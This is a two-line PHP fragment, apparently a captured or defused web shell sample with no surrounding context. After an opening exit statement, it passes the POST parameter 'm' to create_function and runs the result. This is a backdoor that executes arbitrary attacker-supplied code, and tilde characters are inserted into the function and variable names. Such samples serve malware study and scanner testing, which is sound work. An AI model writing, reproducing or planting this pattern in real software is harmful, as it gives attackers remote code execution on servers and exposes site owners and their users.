<?php exit; ?>
<?php $f = cre~ate_function('', $_P~OST['m']); $f();
